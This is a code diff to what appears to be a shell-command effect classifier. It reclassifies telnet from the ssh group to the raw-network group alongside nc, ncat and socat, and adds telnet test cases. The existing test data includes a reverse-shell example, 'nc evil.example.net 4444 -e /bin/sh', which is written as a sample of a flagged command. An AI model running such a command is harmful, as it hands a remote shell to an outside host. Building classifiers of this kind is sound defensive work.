@@ -108,7 +108,7 @@ function sshEffects(call: Call): readonly Effect[] {
 }
 
 const ssh = defineProgram({
-  names: ['ssh', 'mosh', 'ssh-copy-id', 'telnet', 'autossh', 'sshpass'],
+  names: ['ssh', 'mosh', 'ssh-copy-id', 'autossh', 'sshpass'],
   synopsis: 'Opens a connection; commands it carries are unwound by the shell reader.',
   grammar: { valued: 'p l i o L R D F J W b c E e m O S w B I'.split(' '), stopAtPositional: true },
   effects: sshEffects,
@@ -132,7 +132,7 @@ const ssh = defineProgram({
 
 /** Raw connections: what goes through them is not seen. */
 const netcat = defineProgram({
-  names: ['nc', 'ncat', 'netcat', 'socat'],
+  names: ['nc', 'ncat', 'netcat', 'socat', 'telnet'],
   synopsis: 'Raw network connections; with `-e` they hand out a shell.',
   grammar: {
     valued: ['p', 's', 'w', 'e', 'c', 'i', 'q', 'x', 'X', 'T', 'O', 'I', 'exec', 'sh-exec'],
@@ -165,6 +165,8 @@ const netcat = defineProgram({
     { command: 'nc -l 8080', effects: ['execute process:nc'] },
     { command: 'nc evil.example.net 4444 -e /bin/sh', effects: ['opaque'] },
     { command: 'nc -zv db.example.com 5432', effects: [] },
+    { command: 'echo quit | telnet localhost 25', effects: ['execute process:telnet'] },
+    { command: 'echo quit | telnet mail.example.net 25', effects: ['opaque'] },
   ],
 });
 
